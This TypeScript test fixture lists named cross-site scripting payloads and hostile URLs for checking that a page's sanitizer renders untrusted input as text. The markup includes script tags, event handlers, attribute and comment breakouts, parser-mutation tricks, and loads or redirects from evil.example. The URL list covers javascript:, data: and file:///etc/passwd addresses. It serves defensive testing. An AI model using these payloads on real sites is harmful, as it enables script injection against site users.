/**
 * The kinds of text and address that make careless pages run a stranger's script: our own examples, one of each kind. Whatever
 * of them became more than text would call `hit`, or make an element with the class `hit`.
 */
interface Hostile {
  readonly kind: string;
  readonly value: string;
}

const kinds = (list: Readonly<Record<string, string>>): readonly Hostile[] =>
  Object.entries(list).map(([kind, value]) => ({ kind, value }));

export const hostileMarkup = kinds({
  'a script': '<script class="hit">hit()</script>',
  'a script from elsewhere': '<script class="hit" src="https://evil.example/hit.js"></script>',
  'a script in odd letters': '<ScRiPt\t\n class=hit >hit()</sCrIpT >',
  'a script with NUL in its name': '<scr\0ipt class=hit>hit()</scr\0ipt>',
  'an event of an image': '<img class="hit" src="x" onerror="hit()">',
  'an event without quotation marks': '<img class=hit src=x onerror=hit()//',
  'an event behind slashes': '<img/class=hit/src=x/onerror=hit()>',
  'an event that comes by itself': '<details class="hit" open ontoggle="hit()">x</details>',
  'an event of focus': '<input class="hit" autofocus onfocus="hit()">',
  'an event of an animation':
    '<style class="hit">@keyframes k{}</style><b class="hit" style="animation-name:k" onanimationstart="hit()">x</b>',
  'an event of SVG': '<svg class="hit" onload="hit()"><animate onbegin="hit()" attributeName="x" dur="1s"></animate></svg>',
  'a script in SVG': '<svg class="hit"><script>hit()</script></svg>',
  'a link in MathML': '<math class="hit"><maction xlink:href="javascript:hit()">x</maction></math>',
  'foreign content that the parser moves': '<svg class="hit"></p><style><a id="</style><img class=hit src=x onerror=hit()>">',
  'text that is made markup when it is parsed twice': '<noscript><p title="</noscript><img class=hit src=x onerror=hit()>">',
  'the end of an attribute': '" class="hit" autofocus onfocus="hit()" x="',
  'the end of an attribute in single quotes': "' class='hit' onmouseover='hit()' x='",
  'the end of an attribute without quotes': 'x onpointerenter=hit() class=hit',
  'the end of a tag': '"><img class="hit" src=x onerror="hit()">',
  'the end of a comment': '--><img class="hit" src=x onerror="hit()"><!--',
  'the end of a text field': '</textarea></title></select></style></template><img class="hit" src=x onerror="hit()">',
  'the end of a script': '</script><script class="hit">hit()</script>',
  'the end of a string in a script': '";hit();//\\";hit();//',
  'the end of a line in a script': '\u2028hit()\u2029hit()',
  'a frame': '<iframe class="hit" srcdoc="<script>parent.hit()</script>" src="javascript:parent.hit()"></iframe>',
  'an object': '<object class="hit" data="javascript:hit()"></object><embed class="hit" src="javascript:hit()">',
  'a new base': '<base class="hit" href="https://evil.example/">',
  'a way elsewhere': '<meta class="hit" http-equiv="refresh" content="0;url=https://evil.example/">',
  'a form': '<form class="hit" action="https://evil.example/"><button formaction="javascript:hit()">x</button></form>',
  'a style': '<style class="hit">@import "https://evil.example/hit.css"; * { display: none }</style>',
  'a style sheet': '<link class="hit" rel="stylesheet" href="https://evil.example/hit.css">',
  'a custom element': '<cop-feed class="hit" src="https://evil.example/feed.json"></cop-feed>',
  'markup for editors that drop tags': '<div class="hit cop-feed" data-src="https://evil.example/feed.json"></div>',
  'a template of Lit': '<!--?lit$000000000$--><?lit$000000000$>${hit()}',
  'expressions of templates': '{{constructor.constructor("hit()")()}} ${hit()} <%= hit() %> #{hit()} [[hit()]]',
  'character references': '&lt;img class=hit src=x onerror=hit()&gt; &#60;script&#62;hit()&#60;/script&#62;',
  'escapes of scripts': '\\x3cimg class=hit src=x onerror=hit()\\x3e \\u003cscript\\u003ehit()\\u003c/script\\u003e',
  'other letters for angle brackets': '＜script＞hit()＜/script＞ ‹img onerror=hit()›',
  'markup that turns its direction': '\u202e<img class=hit src=x onerror=hit()>\u202c',
  'a name that names a member': '__proto__ constructor innerHTML hasOwnProperty',
});

export const hostileAddresses = kinds({
  'a script': 'javascript:hit()',
  'a script in odd letters': 'JaVaScRiPt:hit()',
  'a script behind a space': ' \u0001javascript:hit()',
  'a script with breaks in its name': 'java\tscr\nipt:hit()',
  'a script with character references': '&#106;avascript&colon;hit()',
  'a script that looks like a page': 'javascript://association.example/%0ahit()',
  'a script behind another scheme': 'view-source:javascript:hit()',
  'data that is a page': 'data:text/html,<script>hit()</script>',
  'data in base64': 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data that is a picture with a script': "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
  'Visual Basic': 'vbscript:hit()',
  'an object of this page': 'blob:http://museum.test/00000000-0000-0000-0000-000000000000',
  'a file': 'file:///etc/passwd',
  'an inner address of the browser': 'about:blank#hit',
  'a name and a password': 'https://user:password@evil.example/',
  'another host behind a known one': 'https://association.example@evil.example/',
  backslashes: 'https:\\\\evil.example\\',
  'an address that ends its attribute': 'https://association.example/" onclick="hit()" class="hit',
  'an address with markup in it': 'https://association.example/<img class=hit src=x onerror=hit()>',
  'a mail with a script': 'mailto:"<script>hit()</script>"@association.example',
  'a mail with lines of its own': 'mailto:a@association.example%0aBcc:everyone@museum.example',
  'no address': 'ht!tp://%%%',
});
